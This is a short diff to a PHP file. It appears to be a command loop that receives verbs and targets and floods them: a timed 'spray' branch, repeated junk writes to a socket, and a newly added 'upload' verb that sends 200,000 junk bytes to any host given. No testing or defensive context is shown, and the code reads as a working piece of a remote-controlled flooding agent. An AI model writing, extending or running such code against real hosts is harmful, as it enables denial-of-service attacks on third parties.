@@ -40,6 +40,12 @@ while (true) {
             for ($i = 0; $i < 100; $i++) @fwrite($socket, "x");
         }
         $answer = "sent";
+    } elseif ($verb == "upload") {
+        $there = stream_socket_client("tcp://$where", $code, $why, 3);
+        stream_set_timeout($there, 10);
+        fwrite($there, str_repeat("x", 200000));
+        stream_socket_shutdown($there, STREAM_SHUT_WR);
+        $answer = trim(fgets($there) ?: "no answer");
     } elseif ($verb == "spray") {
         [$to, $seconds] = explode("/", $where);
         for ($end = microtime(true) + $seconds; microtime(true) < $end; ) {
